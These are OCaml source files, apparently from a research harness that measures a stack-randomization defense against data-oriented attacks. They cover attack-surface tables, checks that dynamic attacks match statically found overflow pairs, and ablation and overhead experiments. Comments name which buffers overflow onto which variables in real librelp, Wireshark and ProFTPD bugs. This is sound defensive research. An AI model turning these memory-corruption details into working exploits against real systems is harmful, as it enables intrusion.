  else Printf.sprintf "%.1f" a

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        (Sutil.Texttable.
           [
             ("program", Left);
             ("kind", Left);
             ("funcs", Right);
             ("slots", Right);
             ("overflow", Right);
             ("victims", Right);
             ("pairs", Right);
             ("hints", Left);
           ]
        @ List.map
            (fun d -> (d, Sutil.Texttable.Right))
            t.defense_names)
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        ([
           r.pname;
           r.pkind;
           string_of_int r.n_funcs;
           string_of_int r.n_slots;
           string_of_int r.n_overflow;
           string_of_int r.n_victims;
           string_of_int r.n_pairs;
           (if r.hints_ok then "ok" else "MISS");
         ]
        @ List.map
            (fun d ->
              match List.assoc_opt d r.easiest with
              | Some a -> fmt_attempts a
              | None -> "-")
            t.defense_names))
    t.rows;
  tbl

let to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E12: static DOP attack surface (expected attempts, easiest pair)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.contents b
