type row = {
  pname : string;
  pkind : string;
  n_funcs : int;
  n_slots : int;
  n_overflow : int;
  n_victims : int;
  n_pairs : int;
  easiest : (string * float) list;
  hints_ok : bool;
}

type t = { rows : row list; defense_names : string list }

let programs ~progen =
  List.map
    (fun (w : Apps.Spec.workload) ->
      let kind = match w.kind with `Spec -> "spec" | `Io -> "io" in
      (w.wname, kind, Lazy.force w.program, w.dop_hints))
    Apps.Spec.all
  @ List.map
      (fun (v : Apps.Synth.variant) ->
        (v.vname, "synth", Lazy.force v.program, []))
      Apps.Synth.variants
  @ List.init progen (fun i ->
        let seed = Int64.of_int (9001 + i) in
        ( Printf.sprintf "progen-%Ld" seed,
          "progen",
          Minic.Driver.compile (Minic.Progen.generate ~seed),
          [] ))

let hints_hold (report : Analysis.Report.t) hints =
  List.for_all
    (fun (f, s) ->
      List.exists
        (fun (fa : Analysis.Funcan.t) ->
          fa.fname = f
          && List.exists
               (fun (sl : Analysis.Funcan.slot) ->
                 sl.name = s && sl.overflow <> [])
               fa.slots)
        report.analyses)
    hints

let run ?(pool = Sched.Pool.sequential) ?(progen = 4) ?(score = true) () =
  let programs = programs ~progen in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (pname, pkind, prog, hints) ->
           Sched.Job.v ~id:("e12/" ^ pname) ~seed:3L (fun () ->
               let report =
                 Analysis.Report.analyze_prog ~name:pname ~score prog
               in
               let sum f =
                 List.fold_left
                   (fun acc (fs : Analysis.Report.func_summary) ->
                     acc + f fs)
                   0 report.funcs
               in
               {
                 pname;
                 pkind;
                 n_funcs = List.length report.funcs;
                 n_slots = sum (fun fs -> fs.n_slots);
                 n_overflow = sum (fun fs -> fs.n_overflow);
                 n_victims = sum (fun fs -> fs.n_victims);
                 n_pairs = List.length report.pairs;
                 easiest = (if score then Analysis.Report.summary report else []);
                 hints_ok = hints_hold report hints;
               }))
         programs)
  in
  { rows; defense_names = (if score then Analysis.Score.defense_names else []) }

let fmt_attempts a =
  if a = infinity then "-"
  else if a >= 1e6 then Printf.sprintf "%.2e" a
  else if Float.is_integer a then Printf.sprintf "%.0f" a
  else Printf.sprintf "%.1f" a

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        (Sutil.Texttable.
           [
             ("program", Left);
             ("kind", Left);
             ("funcs", Right);
             ("slots", Right);
             ("overflow", Right);
             ("victims", Right);
             ("pairs", Right);
             ("hints", Left);
           ]
        @ List.map
            (fun d -> (d, Sutil.Texttable.Right))
            t.defense_names)
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        ([
           r.pname;
           r.pkind;
           string_of_int r.n_funcs;
           string_of_int r.n_slots;
           string_of_int r.n_overflow;
           string_of_int r.n_victims;
           string_of_int r.n_pairs;
           (if r.hints_ok then "ok" else "MISS");
         ]
        @ List.map
            (fun d ->
              match List.assoc_opt d r.easiest with
              | Some a -> fmt_attempts a
              | None -> "-")
            t.defense_names))
    t.rows;
  tbl

let to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E12: static DOP attack surface (expected attempts, easiest pair)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.contents b
