type row = {
  label : string;
  config : Smokestack.Config.t;
  total_pbox_bytes : int;
  gobmk_cycles : float;
}

type t = { rows : row list }

let configs =
  let base = Smokestack.Config.default in
  [
    ("all optimizations", base);
    ("no power-of-2 rows", { base with pow2_pbox = false });
    ("no table sharing", { base with share_tables = false });
    ("no rounding-up", { base with round_up_allocs = false });
    ( "neither sharing opt",
      { base with share_tables = false; round_up_allocs = false } );
    ("no FID checks", { base with fid_checks = false });
    ("no VLA padding", { base with vla_padding = false });
  ]

let run ?(pool = Sched.Pool.sequential) ?(seed = 1L) () =
  let probe =
    match Apps.Spec.find "gobmk" with
    | Some w -> w
    | None -> failwith "Harness.Ablation: gobmk workload missing"
  in
  Workbench.force_programs Apps.Spec.all;
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (label, config) ->
           Sched.Job.v ~id:("e7/" ^ label) ~seed (fun () ->
               let total_pbox_bytes =
                 List.fold_left
                   (fun acc (w : Apps.Spec.workload) ->
                     let hardened =
                       Smokestack.Harden.harden ~seed:3L config
                         (Lazy.force w.program)
                     in
                     acc + Smokestack.Harden.pbox_bytes hardened)
                   0 Apps.Spec.all
               in
               let stats, _ = Workbench.smokestack_stats ~seed config probe in
               { label; config; total_pbox_bytes; gobmk_cycles = stats.cycles }))
         configs)
  in
  { rows }

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        [
          ("configuration", Sutil.Texttable.Left);
          ("P-BOX bytes (all workloads)", Sutil.Texttable.Right);
          ("gobmk cycles", Sutil.Texttable.Right);
        ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.label;
          Sutil.Texttable.fmt_bytes r.total_pbox_bytes;
          Printf.sprintf "%.0f" r.gobmk_cycles;
        ])
    t.rows;
  tbl

let to_markdown t =
  let buf = Buffer.create 256 in
  Buffer.add_string buf
    "| configuration | P-BOX bytes (all workloads) | gobmk cycles |\n|---|---|---|\n";
  List.iter
    (fun r ->
      Buffer.add_string buf
        (Printf.sprintf "| %s | %s | %.0f |\n" r.label
           (Sutil.Texttable.fmt_bytes r.total_pbox_bytes)
           r.gobmk_cycles))
    t.rows;
  Buffer.contents buf
