type row = {
  cname : string;
  verdicts : Attacks.Verdict.t list;
  dynamic_success : bool;
  static_pairs : int;
  matched : string option;
  validated : bool;
}

type t = { rows : row list; all_validated : bool }

(* Witness sets: which (buffer, victim) tuples each attack corrupts.
   These are read off the exploit implementations in lib/apps — e.g.
   the librelp key leak overflows allNames in relpTcpChkPeerName and
   redirects keyPtr in the caller relpTcpLstnInit — so the check stays
   an independent cross-validation rather than "the analyzer agrees
   with itself". *)
let synth_cases () =
  List.map
    (fun (v : Apps.Synth.variant) ->
      let witnesses =
        match (v.location, v.technique) with
        | `Stack, `Direct ->
            (* direct overflow from buff over the dispatcher operands *)
            [
              ("serve", "buff", "serve", "ctr");
              ("serve", "buff", "serve", "size");
              ("serve", "buff", "serve", "step");
            ]
        | `Stack, `Indirect ->
            (* buff corrupts a data pointer; the wild write lands on the
               bookkeeping slots *)
            [
              ("serve", "buff", "serve", "seen");
              ("serve", "buff", "serve", "stamp");
              ("serve", "*", "serve", "seen");
              ("serve", "*", "serve", "stamp");
              ("serve", "*", "serve", "ticks");
            ]
        | `Data, `Direct | `Heap, `Direct ->
            [ ("serve", "slots", "serve", "auth") ]
        | `Data, `Indirect | `Heap, `Indirect ->
            [ ("serve", "*", "serve", "auth") ]
      in
      (v.vname, v.source, Lazy.force v.program, v.attack, witnesses))
    Apps.Synth.variants

let realvuln_cases () =
  let librelp = Lazy.force Apps.Librelp.program in
  let wireshark = Lazy.force Apps.Wireshark.program in
  let proftpd = Lazy.force Apps.Proftpd.program in
  let proftpd_witness =
    [
      ("sreplace", "buf", "cmd_loop", "op");
      ("sreplace", "buf", "cmd_loop", "delta");
    ]
  in
  [
    ( "librelp/key-leak",
      Apps.Librelp.source,
      librelp,
      Apps.Librelp.attack_static,
      [ ("relpTcpChkPeerName", "allNames", "relpTcpLstnInit", "keyPtr") ] );
    ( "wireshark/CVE-2014-2299",
      Apps.Wireshark.source,
      wireshark,
      Apps.Wireshark.attack,
      [
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "col" );
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "cinfo" );
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "packet_list" );
      ] );
    ("proftpd/key-extraction", Apps.Proftpd.source, proftpd,
     Apps.Proftpd.attack_key_extraction, proftpd_witness);
    ("proftpd/bot", Apps.Proftpd.source, proftpd, Apps.Proftpd.attack_bot,
     proftpd_witness);
    ("proftpd/mem-permissions", Apps.Proftpd.source, proftpd,
     Apps.Proftpd.attack_memperm, proftpd_witness);
  ]

let cases () = synth_cases () @ realvuln_cases ()

let find_witness pairs witnesses =
  List.find_map
    (fun (bf, bs, vf, vs) ->
      if
        List.exists
          (fun (p : Analysis.Dop.pair) ->
            p.buf_func = bf && p.buf_slot = bs && p.victim_func = vf
            && p.victim_slot = vs)
          pairs
      then Some (Printf.sprintf "%s:%s -> %s:%s" bf bs vf vs)
      else None)
    witnesses

(* Verdicts cross the store as (tag, detail) pairs — Store.Entry keeps
   no dependency on lib/attacks, so the conversion lives with the
   producer.  Decoding is total over what encoding emits; an unknown
   tag (a future verdict constructor read by an old binary) makes the
   whole cached list unusable, which the callers treat as a miss. *)
let verdict_to_pair = function
  | Attacks.Verdict.Success -> ("success", "")
  | Attacks.Verdict.Crashed d -> ("crashed", d)
  | Attacks.Verdict.Detected d -> ("detected", d)
  | Attacks.Verdict.No_effect -> ("no-effect", "")

let verdict_of_pair = function
  | "success", _ -> Some Attacks.Verdict.Success
  | "crashed", d -> Some (Attacks.Verdict.Crashed d)
  | "detected", d -> Some (Attacks.Verdict.Detected d)
  | "no-effect", _ -> Some Attacks.Verdict.No_effect
  | _ -> None

let cached_verdicts ?store ~source ~config ~extra thunk =
  match store with
  | None -> thunk ()
  | Some store -> (
      let key =
        Store.Key.of_source ~source_text:source ~config
          ~engine:(Machine.Backend.default ()).Machine.Backend.kind ~seed:17L
          ~extra ()
      in
      let cached =
        match
          Option.bind (Store.Cache.find store key) Store.Entry.verdicts_of_entry
        with
        | Some pairs ->
            let vs = List.map verdict_of_pair pairs in
            if List.for_all Option.is_some vs then
              Some (List.filter_map Fun.id vs)
            else None
        | None -> None
      in
      match cached with
      | Some verdicts -> verdicts
      | None ->
          let verdicts = thunk () in
          Store.Cache.put store key
            (Store.Entry.verdicts_entry (List.map verdict_to_pair verdicts));
          verdicts)

let run ?(pool = Sched.Pool.sequential) ?store ?(trials = 6) () =
  let cases = cases () in
  (* Static pass: once per distinct program (the proftpd exploits share
     one), in the submitting domain — the analysis is pure and fast
     without scoring.  Programs carry no name, so dedup is by physical
     identity. *)
  let static : (Ir.Prog.t * Analysis.Dop.pair list) list ref = ref [] in
  List.iter
    (fun (_, _, prog, _, _) ->
      if not (List.exists (fun (p, _) -> p == prog) !static) then
        let funcans = Analysis.Funcan.analyze prog in
        static := (prog, Analysis.Dop.enumerate prog funcans) :: !static)
    cases;
  let pairs_of prog =
    snd (List.find (fun (p, _) -> p == prog) !static)
  in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (cname, source, prog, attack, witnesses) ->
           Sched.Job.v ~id:("crossval/" ^ cname) ~seed:3L (fun () ->
               let verdicts =
                 cached_verdicts ?store ~source ~config:None
                   ~extra:
                     (Printf.sprintf "crossval;case=%s;trials=%d;seed0=17"
                        cname trials)
                   (fun () ->
                     let applied =
                       Defenses.Defense.apply ~seed:3L
                         Defenses.Defense.No_defense prog
                     in
                     Security.trials attack applied ~n:trials ~seed0:17)
               in
               let dynamic_success =
                 List.exists (( = ) Attacks.Verdict.Success) verdicts
               in
               let pairs = pairs_of prog in
               let matched = find_witness pairs witnesses in
               {
                 cname;
                 verdicts;
                 dynamic_success;
                 static_pairs = List.length pairs;
                 matched;
                 validated = (not dynamic_success) || matched <> None;
               }))
         cases)
  in
  { rows; all_validated = List.for_all (fun r -> r.validated) rows }

(* --- selective-hardening differential (E14 acceptance) ------------ *)

type selective_row = {
  sname : string;
  elided : int;
  identical : bool;
  detail : string;
}

type selective_t = { srows : selective_row list; all_identical : bool }

let selective_config =
  Smokestack.Config.with_selective true Smokestack.Config.default

(* Elision is draw-preserving (the elided prologue still consumes one
   ss.rand draw, and Pbox.build shuffles the full meta list), so full
   and selective hardening must be observationally indistinguishable:
   every attack attempt gets the same verdict, every clean run the same
   outcome and output.  Stats like cycles legitimately differ — the
   elided functions skip the permutation loads — so they are not
   compared. *)
let run_selective ?(pool = Sched.Pool.sequential) ?store ?(trials = 6)
    ?(progen_seeds = 8) () =
  (* the elision oracle behind Config.selective lives in lib/analysis *)
  Analysis.Validate.install ();
  let full = Defenses.Defense.Smokestack Smokestack.Config.default in
  let sel = Defenses.Defense.Smokestack selective_config in
  let config_of = function
    | Defenses.Defense.Smokestack c -> Some c
    | _ -> None
  in
  let elided_count prog =
    List.length
      (Smokestack.Harden.harden ~seed:3L selective_config prog)
        .Smokestack.Harden.elided
  in
  let attack_jobs =
    List.map
      (fun (cname, source, prog, attack, _) ->
        Sched.Job.v ~id:("selective/" ^ cname) ~seed:3L (fun () ->
            let verdicts_under d =
              cached_verdicts ?store ~source ~config:(config_of d)
                ~extra:
                  (Printf.sprintf
                     "selective;case=%s;trials=%d;seed0=17;hseed=3" cname
                     trials)
                (fun () ->
                  Security.trials attack
                    (Defenses.Defense.apply ~seed:3L d prog)
                    ~n:trials ~seed0:17)
            in
            let vf = verdicts_under full and vs = verdicts_under sel in
            let identical = vf = vs in
            {
              sname = cname;
              elided = elided_count prog;
              identical;
              detail =
                (if identical then
                   Printf.sprintf "%d verdict(s) identical" trials
                 else "verdict lists diverge");
            }))
      (cases ())
  in
  let progen_jobs =
    List.map
      (fun (pseed, psource) ->
        Sched.Job.v
          ~id:(Printf.sprintf "selective/progen-%Ld" pseed)
          ~seed:pseed
          (fun () ->
            let prog = lazy (Minic.Driver.compile psource) in
            let run_under d =
              let fresh () =
                Store.Entry.exec_of_run
                  (Apps.Runner.run_chunks
                     (Defenses.Defense.apply ~seed:3L d
                        (Lazy.force prog))
                     ~seed:7L ~chunks:[])
              in
              match store with
              | None -> fresh ()
              | Some store -> (
                  let key =
                    Store.Key.of_source ~source_text:psource
                      ~config:(config_of d)
                      ~engine:
                        (Machine.Backend.default ()).Machine.Backend.kind
                      ~seed:7L ~extra:"selective;chunks=;hseed=3" ()
                  in
                  match
                    Option.bind (Store.Cache.find store key)
                      Store.Entry.exec_of_entry
                  with
                  | Some exec -> exec
                  | None ->
                      let exec = fresh () in
                      Store.Cache.put store key (Store.Entry.exec_entry exec);
                      exec)
            in
            let ef = run_under full and es = run_under sel in
            let identical =
              String.equal ef.Store.Entry.outcome es.Store.Entry.outcome
              && String.equal ef.Store.Entry.stats.Machine.Exec.output
                   es.Store.Entry.stats.Machine.Exec.output
            in
            {
              sname = Printf.sprintf "progen-%Ld" pseed;
              elided = elided_count (Lazy.force prog);
              identical;
              detail =
                (if identical then
                   Printf.sprintf "outcome %s, output identical"
                     ef.Store.Entry.outcome
                 else "outcome or output diverges");
            }))
      (List.of_seq (Minic.Progen.range ~seed:100L progen_seeds))
  in
  let srows = Sched.Pool.run_all pool (attack_jobs @ progen_jobs) in
  { srows; all_identical = List.for_all (fun r -> r.identical) srows }

let selective_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("case", Left);
            ("elided", Right);
            ("full = selective", Left);
            ("detail", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.sname;
          string_of_int r.elided;
          (if r.identical then "yes" else "NO");
          r.detail;
        ])
    t.srows;
  tbl

let selective_to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E14a: selective-hardening differential (attack verdicts and Progen \
     output bit-identical to full hardening)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (selective_table t));
  Buffer.add_string b (Printf.sprintf "\nall identical: %b\n" t.all_identical);
  Buffer.contents b

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("attack", Left);
            ("dynamic", Left);
            ("static pairs", Right);
            ("witness pair", Left);
            ("validated", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.cname;
          (if r.dynamic_success then "success" else "blocked");
          string_of_int r.static_pairs;
          Option.value r.matched ~default:"-";
          (if r.validated then "yes" else "NO");
        ])
    t.rows;
  tbl

let to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E12b: differential validation (dynamic attack => static DOP pair)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.add_string b
    (Printf.sprintf "\nall validated: %b\n" t.all_validated);
  Buffer.contents b
