type row = {
  cname : string;
  verdicts : Attacks.Verdict.t list;
  dynamic_success : bool;
  static_pairs : int;
  matched : string option;
  validated : bool;
}

type t = { rows : row list; all_validated : bool }

(* Witness sets: which (buffer, victim) tuples each attack corrupts.
   These are read off the exploit implementations in lib/apps — e.g.
   the librelp key leak overflows allNames in relpTcpChkPeerName and
   redirects keyPtr in the caller relpTcpLstnInit — so the check stays
   an independent cross-validation rather than "the analyzer agrees
   with itself". *)
let synth_cases () =
  List.map
    (fun (v : Apps.Synth.variant) ->
      let witnesses =
        match (v.location, v.technique) with
        | `Stack, `Direct ->
            (* direct overflow from buff over the dispatcher operands *)
            [
              ("serve", "buff", "serve", "ctr");
              ("serve", "buff", "serve", "size");
              ("serve", "buff", "serve", "step");
            ]
        | `Stack, `Indirect ->
            (* buff corrupts a data pointer; the wild write lands on the
               bookkeeping slots *)
            [
              ("serve", "buff", "serve", "seen");
              ("serve", "buff", "serve", "stamp");
              ("serve", "*", "serve", "seen");
              ("serve", "*", "serve", "stamp");
              ("serve", "*", "serve", "ticks");
            ]
        | `Data, `Direct | `Heap, `Direct ->
            [ ("serve", "slots", "serve", "auth") ]
        | `Data, `Indirect | `Heap, `Indirect ->
            [ ("serve", "*", "serve", "auth") ]
      in
      (v.vname, Lazy.force v.program, v.attack, witnesses))
    Apps.Synth.variants

let realvuln_cases () =
  let librelp = Lazy.force Apps.Librelp.program in
  let wireshark = Lazy.force Apps.Wireshark.program in
  let proftpd = Lazy.force Apps.Proftpd.program in
  let proftpd_witness =
    [
      ("sreplace", "buf", "cmd_loop", "op");
      ("sreplace", "buf", "cmd_loop", "delta");
    ]
  in
  [
    ( "librelp/key-leak",
      librelp,
      Apps.Librelp.attack_static,
      [ ("relpTcpChkPeerName", "allNames", "relpTcpLstnInit", "keyPtr") ] );
    ( "wireshark/CVE-2014-2299",
      wireshark,
      Apps.Wireshark.attack,
      [
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "col" );
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "cinfo" );
        ( "packet_list_dissect_and_cache_record",
          "pd",
          "packet_list_dissect_and_cache_record",
          "packet_list" );
      ] );
    ("proftpd/key-extraction", proftpd, Apps.Proftpd.attack_key_extraction,
     proftpd_witness);
    ("proftpd/bot", proftpd, Apps.Proftpd.attack_bot, proftpd_witness);
    ("proftpd/mem-permissions", proftpd, Apps.Proftpd.attack_memperm,
     proftpd_witness);
  ]

let cases () = synth_cases () @ realvuln_cases ()

let find_witness pairs witnesses =
  List.find_map
    (fun (bf, bs, vf, vs) ->
      if
        List.exists
          (fun (p : Analysis.Dop.pair) ->
            p.buf_func = bf && p.buf_slot = bs && p.victim_func = vf
            && p.victim_slot = vs)
          pairs
      then Some (Printf.sprintf "%s:%s -> %s:%s" bf bs vf vs)
      else None)
    witnesses

let run ?(pool = Sched.Pool.sequential) ?(trials = 6) () =
  let cases = cases () in
  (* Static pass: once per distinct program (the proftpd exploits share
     one), in the submitting domain — the analysis is pure and fast
     without scoring.  Programs carry no name, so dedup is by physical
     identity. *)
  let static : (Ir.Prog.t * Analysis.Dop.pair list) list ref = ref [] in
  List.iter
    (fun (_, prog, _, _) ->
      if not (List.exists (fun (p, _) -> p == prog) !static) then
        let funcans = Analysis.Funcan.analyze prog in
        static := (prog, Analysis.Dop.enumerate prog funcans) :: !static)
    cases;
  let pairs_of prog =
    snd (List.find (fun (p, _) -> p == prog) !static)
  in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (cname, prog, attack, witnesses) ->
           Sched.Job.v ~id:("crossval/" ^ cname) ~seed:3L (fun () ->
               let applied =
                 Defenses.Defense.apply ~seed:3L Defenses.Defense.No_defense
                   prog
               in
               let verdicts =
                 Security.trials attack applied ~n:trials ~seed0:17
               in
               let dynamic_success =
                 List.exists (( = ) Attacks.Verdict.Success) verdicts
               in
               let pairs = pairs_of prog in
               let matched = find_witness pairs witnesses in
               {
                 cname;
                 verdicts;
                 dynamic_success;
                 static_pairs = List.length pairs;
                 matched;
                 validated = (not dynamic_success) || matched <> None;
               }))
         cases)
  in
  { rows; all_validated = List.for_all (fun r -> r.validated) rows }

(* --- selective-hardening differential (E14 acceptance) ------------ *)

type selective_row = {
  sname : string;
  elided : int;
  identical : bool;
  detail : string;
}

type selective_t = { srows : selective_row list; all_identical : bool }

let selective_config =
  Smokestack.Config.with_selective true Smokestack.Config.default

(* Elision is draw-preserving (the elided prologue still consumes one
   ss.rand draw, and Pbox.build shuffles the full meta list), so full
   and selective hardening must be observationally indistinguishable:
   every attack attempt gets the same verdict, every clean run the same
   outcome and output.  Stats like cycles legitimately differ — the
   elided functions skip the permutation loads — so they are not
   compared. *)
let run_selective ?(pool = Sched.Pool.sequential) ?(trials = 6)
    ?(progen_seeds = 8) () =
  (* the elision oracle behind Config.selective lives in lib/analysis *)
  Analysis.Validate.install ();
  let full = Defenses.Defense.Smokestack Smokestack.Config.default in
  let sel = Defenses.Defense.Smokestack selective_config in
  let elided_count prog =
    List.length
      (Smokestack.Harden.harden ~seed:3L selective_config prog)
        .Smokestack.Harden.elided
  in
  let attack_jobs =
    List.map
      (fun (cname, prog, attack, _) ->
        Sched.Job.v ~id:("selective/" ^ cname) ~seed:3L (fun () ->
            let verdicts_under d =
              Security.trials attack
                (Defenses.Defense.apply ~seed:3L d prog)
                ~n:trials ~seed0:17
            in
            let vf = verdicts_under full and vs = verdicts_under sel in
            let identical = vf = vs in
            {
              sname = cname;
              elided = elided_count prog;
              identical;
              detail =
                (if identical then
                   Printf.sprintf "%d verdict(s) identical" trials
                 else "verdict lists diverge");
            }))
      (cases ())
  in
  let progen_jobs =
    List.init progen_seeds (fun i ->
        let pseed = Int64.of_int (100 + i) in
        Sched.Job.v
          ~id:(Printf.sprintf "selective/progen-%Ld" pseed)
          ~seed:pseed
          (fun () ->
            let prog =
              Minic.Driver.compile (Minic.Progen.generate ~seed:pseed)
            in
            let run_under d =
              Apps.Runner.run_chunks
                (Defenses.Defense.apply ~seed:3L d prog)
                ~seed:7L ~chunks:[]
            in
            let out_f, st_f = run_under full and out_s, st_s = run_under sel in
            let identical =
              out_f = out_s
              && st_f.Machine.Exec.output = st_s.Machine.Exec.output
            in
            {
              sname = Printf.sprintf "progen-%Ld" pseed;
              elided = elided_count prog;
              identical;
              detail =
                (if identical then
                   Printf.sprintf "outcome %s, output identical"
                     (Machine.Exec.outcome_to_string out_f)
                 else "outcome or output diverges");
            }))
  in
  let srows = Sched.Pool.run_all pool (attack_jobs @ progen_jobs) in
  { srows; all_identical = List.for_all (fun r -> r.identical) srows }

let selective_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("case", Left);
            ("elided", Right);
            ("full = selective", Left);
            ("detail", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.sname;
          string_of_int r.elided;
          (if r.identical then "yes" else "NO");
          r.detail;
        ])
    t.srows;
  tbl

let selective_to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E14a: selective-hardening differential (attack verdicts and Progen \
     output bit-identical to full hardening)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (selective_table t));
  Buffer.add_string b (Printf.sprintf "\nall identical: %b\n" t.all_identical);
  Buffer.contents b

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("attack", Left);
            ("dynamic", Left);
            ("static pairs", Right);
            ("witness pair", Left);
            ("validated", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.cname;
          (if r.dynamic_success then "success" else "blocked");
          string_of_int r.static_pairs;
          Option.value r.matched ~default:"-";
          (if r.validated then "yes" else "NO");
        ])
    t.rows;
  tbl

let to_markdown t =
  let b = Buffer.create 512 in
  Buffer.add_string b
    "E12b: differential validation (dynamic attack => static DOP pair)\n\n";
  Buffer.add_string b (Sutil.Texttable.render (table t));
  Buffer.add_string b
    (Printf.sprintf "\nall validated: %b\n" t.all_validated);
  Buffer.contents b
