(** Figure 4: percentage memory overhead (max-RSS proxy) on the
    SPEC-like workloads.

    The proxy counts bytes of pages actually touched during the run —
    the VM-level analogue of [ru_maxrss].  The hardened binary's
    increase comes from the read-only P-BOX pages its prologues index
    (paper §V-B), so the workloads with the most distinct stack formats
    (perlbench, h264ref) top the chart. *)

type row = {
  workload : string;
  baseline_rss : int;  (** touched pages + the process floor *)
  hardened_rss : int;
  pbox_bytes : int;
  overhead_pct : float;
}

type t = { rows : row list; mean_pct : float }

val process_floor_bytes : int
(** Loader/libc/runtime pages every real process carries (1 MiB here);
    added to both sides so percentages sit on a real process's scale
    while the numerator stays exactly the P-BOX pages. *)

val run :
  ?pool:Sched.Pool.t ->
  ?workloads:Apps.Spec.workload list ->
  ?seed:int64 ->
  unit ->
  t
(** Uses the AES-10 configuration (the scheme does not affect memory).
    One job per workload when [?pool] is parallel. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
