(** Security experiments (paper §II-C and §V-C).

    Every cell is a set of independent exploit attempts (fresh process,
    fresh per-run entropy) of one attack against one defense-applied
    program.  Success rates estimate the probability a single attempt
    lands; a defense "stops" an attack when that probability collapses
    from ~1 to ~1/permutation-space. *)

type cell = {
  attack_name : string;
  defense : Defenses.Defense.t;
  verdicts : Attacks.Verdict.t list;
  success_rate : float;
}

type t = { title : string; cells : cell list }

val trials :
  ?pool:Sched.Pool.t ->
  (Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t) ->
  Defenses.Defense.applied ->
  n:int ->
  seed0:int ->
  Attacks.Verdict.t list
(** [n] independent attempts with seeds [seed0 + 1000*i], collected in
    trial order.  [?pool] parallelizes the attempts; the experiment
    drivers below instead parallelize at cell granularity and call this
    sequentially from inside their jobs (never nest [Sched.Pool.run_all]
    on the same pool). *)

val pentest : ?pool:Sched.Pool.t -> ?trials_per_cell:int -> ?build_seed:int64 -> unit -> t
(** E5 — the synthetic {direct,indirect} x {stack,data,heap} matrix
    against all six defenses.  One job per (attack, defense) cell. *)

val bypass_prior : ?pool:Sched.Pool.t -> ?trials_per_cell:int -> ?builds:int -> unit -> t
(** E4 — the librelp PoC against the prior stack randomizations, via
    both attacker strategies (binary analysis; probe-then-exploit
    disclosure).  For the per-build defenses each trial uses a fresh
    build, so the rate reads "fraction of builds exploitable".
    One job per (strategy, defense) cell. *)

val realvuln : ?pool:Sched.Pool.t -> ?trials_per_cell:int -> ?build_seed:int64 -> unit -> t
(** E6 — librelp key leak, Wireshark CVE-2014-2299, and the three
    ProFTPD CVE-2006-5815 exploits: undefended vs Smokestack (AES-10).
    One job per (exploit, defense) cell. *)

val rng_security : ?pool:Sched.Pool.t -> ?trials_per_cell:int -> ?build_seed:int64 -> unit -> t
(** E10 (extension) — why the randomness source matters: the
    state-disclosure prediction attack (read the pseudo generator's
    in-memory word, invert xorshift, replicate the public layout
    decode, exploit within the same invocation) against each of the
    four schemes.  Expected: ~100% against [pseudo], 0% against the
    AES and RDRAND schemes, whose state the VM cannot address. *)

type rerand_row = { interval : int; rr_success_rate : float }

val rerandomization :
  ?pool:Sched.Pool.t ->
  ?trials_per_cell:int ->
  ?intervals:int list ->
  unit ->
  rerand_row list
(** E11 (extension) — why {e per-invocation} matters: the same-run
    probe-then-exploit attack against Smokestack variants that redraw
    the permutation index every [n]-th request.  Windows smaller than
    one request's draw count behave like the paper's design; anything
    larger re-opens the attack up to the exploit's reach cap. *)

val rerand_table : rerand_row list -> Sutil.Texttable.t
val rerand_to_markdown : rerand_row list -> string

type brute_row = {
  bdefense : Defenses.Defense.t;
  attempts_to_success : int option;  (** None: budget exhausted *)
  budget : int;
  detected_along_the_way : int;
}

val brute :
  ?pool:Sched.Pool.t ->
  ?max_attempts:int ->
  ?build_seed:int64 ->
  unit ->
  brute_row list
(** E8 — brute-force the librelp exploit against each defense with a
    restart-after-crash service model.  One job per defense; the
    attempt sequence within a defense stays sequential because each
    attempt's outcome gates the next. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
val brute_table : brute_row list -> Sutil.Texttable.t
val brute_to_markdown : brute_row list -> string
