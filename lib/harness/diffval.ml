(* Differential validation of execution engines.

   Runs the same prepared program under two backends and demands
   bit-identical observables: outcome, program output, and every stats
   field including the float cycle count (charges are order-sensitive,
   so even a reassociated addition shows up here).  Used by
   test/test_engine.ml as a tier-1 gate and available from
   experiments/bench drivers as a preflight check. *)

